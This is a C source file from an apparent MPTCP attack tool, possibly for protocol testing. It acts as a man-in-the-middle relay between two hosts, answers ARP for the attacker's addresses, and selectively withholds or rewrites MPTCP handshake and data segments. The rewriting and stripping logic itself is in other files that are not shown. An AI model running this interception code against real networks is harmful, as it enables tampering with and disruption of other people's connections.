// SPDX-License-Identifier: GPL-2.0-only
/*
 * Between the hosts: passes their frames on, but for those that are the attacker's
 * own or that an attack holds back, and answers to ARP
 */
#include <net/if_arp.h>
#include <netinet/if_ether.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

#include "attacker.h"

/* The last one is the other host's: it has one interface for both sides */
#define NR_LINKS ((NR_PATHS + 1) * NR_SIDES - 1)

struct link links[NR_PATHS + 1][NR_SIDES];
bool hold_joins, hold_firsts, hold_data, hold_synacks, hold_ends, watch;
struct endpoint held;
struct frame held_data;

int64_t now_ms(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (int64_t)now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

static void answer_arp(struct link *link, const struct frame *frame)
{
	const struct ether_arp *asked =
		(const struct ether_arp *)(frame->buf + ETH_HLEN);
	struct frame reply = { .len = ETH_HLEN + sizeof(struct ether_arp) };
	struct ether_header *eth = (struct ether_header *)reply.buf;
	struct ether_arp *arp = (struct ether_arp *)(eth + 1);
	in_addr_t target;

	memcpy(&target, asked->arp_tpa, sizeof(target));
	if (asked->ea_hdr.ar_op != htons(ARPOP_REQUEST) || !is_own(target))
		return;
	memcpy(eth->ether_dhost, asked->arp_sha, ETH_ALEN);
	memcpy(eth->ether_shost, link->mac, ETH_ALEN);
	eth->ether_type = htons(ETHERTYPE_ARP);
	arp->ea_hdr = asked->ea_hdr;
	arp->ea_hdr.ar_op = htons(ARPOP_REPLY);
	memcpy(arp->arp_sha, link->mac, ETH_ALEN);
	memcpy(arp->arp_spa, asked->arp_tpa, 4);
	memcpy(arp->arp_tha, asked->arp_sha, ETH_ALEN);
	memcpy(arp->arp_tpa, asked->arp_spa, 4);
	send_frame(link, &reply);
}

/* The other end of the path, where the packet goes on its way */
void pass_segment(int path, enum side from, struct frame *frame,
		  const struct segment *segment)
{
	const struct link *to = &links[path][!from];

	memcpy(segment->eth->ether_dhost, to->peer_mac, ETH_ALEN);
	set_checksums(segment);
	send_frame(to, frame);
}

/* Not the data that may come behind it with the same option */
static bool ends_first(const struct segment *segment)
{
	const uint8_t *capable = find_mptcp(segment, MP_CAPABLE);

	return capable && capable[1] == CAPABLE_ACK_LEN &&
	       !segment->payload_len;
}

static bool is_first_data(const struct segment *segment)
{
	return find_mptcp(segment, MP_CAPABLE) && segment->payload_len;
}

static bool ends_handshake(const struct segment *segment)
{
	const uint8_t *capable = find_mptcp(segment, MP_CAPABLE);
	const uint8_t *join = find_mptcp(segment, MP_JOIN);

	return (capable && capable[1] >= CAPABLE_ACK_LEN) ||
	       (join && join[1] == JOIN_ACK_LEN);
}

/* True if the frame is not passed on, but for the attacker itself */
static bool handle(int path, enum side side, struct frame *frame)
{
	struct link *link = &links[path][side];
	struct ether_header *eth = (struct ether_header *)frame->buf;
	struct segment segment;

	memcpy(link->peer_mac, eth->ether_shost, ETH_ALEN);
	if (eth->ether_type == htons(ETHERTYPE_ARP))
		answer_arp(link, frame);
	if (path == OTHER_HOST) {
		links[path][!side] = *link;
		return parse_segment(frame, &segment);
	}
	note_quote(frame);
	translate(frame);
	if (!parse_segment(frame, &segment)) {
		send_frame(&links[path][!side], frame);
		return false;
	}
	if (rewrite(path, side, &segment)) {
		pass_segment(path, side, frame, &segment);
		return false;
	}
	if (is_own(segment.to.addr))
		return true;
	if (hold_joins && side == CLIENT && find_mptcp(&segment, MP_JOIN))
		return true;
	if (side == CLIENT && ((hold_firsts && ends_first(&segment)) ||
			       (hold_ends && ends_handshake(&segment))))
		return true;
	if (side == SERVER && hold_synacks && segment.tcp->syn &&
	    find_mptcp(&segment, MP_CAPABLE))
		return true;
	if (side == CLIENT && hold_data && is_first_data(&segment)) {
		held_data = *frame;
		return false;
	}
	if (held.port &&
	    same_endpoint(&held, side == CLIENT ? &segment.from : &segment.to))
		return true;

	learn_connection(path, side, &segment);
	learn_join(side, &segment);
	if (withheld(side, &segment))
		return false;
	if (strip(&segment))
		pass_segment(path, side, frame, &segment);
	else
		send_frame(&links[path][!side], frame);
	return watch && (find_mptcp(&segment, MP_CAPABLE) ||
			 find_mptcp(&segment, MP_JOIN));
}

/*
 * Passes packets on until one comes that is for the attacker, or until the time
 * is over or, if it is to look at that, there is something to read on stdin.
 */
bool pump(int64_t until, bool look_at_stdin, struct frame *frame)
{
	struct pollfd fds[NR_LINKS + 1];
	int64_t left;
	ssize_t got;
	int i;

	for (;;) {
		for (i = 0; i < NR_LINKS; i++)
			fds[i] = (struct pollfd){
				.fd = links[i / NR_SIDES][i % NR_SIDES].fd,
				.events = POLLIN
			};
		fds[i] = (struct pollfd){ .fd = look_at_stdin ? STDIN_FILENO :
								-1,
					  .events = POLLIN };
		left = until - now_ms();
		if (left < 0)
			left = look_at_stdin ? -1 : 0;
		if (!poll(fds, NR_LINKS + 1, (int)left))
			return false;

		for (i = 0; i < NR_LINKS; i++) {
			if (!(fds[i].revents & POLLIN))
				continue;
			got = recv(fds[i].fd, frame->buf, sizeof(frame->buf),
				   MSG_DONTWAIT | MSG_TRUNC);
			if (got < (ssize_t)ETH_HLEN)
				continue;
			if (got > (ssize_t)sizeof(frame->buf)) {
				fprintf(stderr,
					"attacker: a frame of %zd bytes: "
					"switch segmentation offload off\n",
					got);
				exit(1);
			}
			frame->len = (size_t)got;
			if (handle(i / NR_SIDES, i % NR_SIDES, frame))
				return true;
		}
		if (fds[i].revents)
			return false;
	}
}
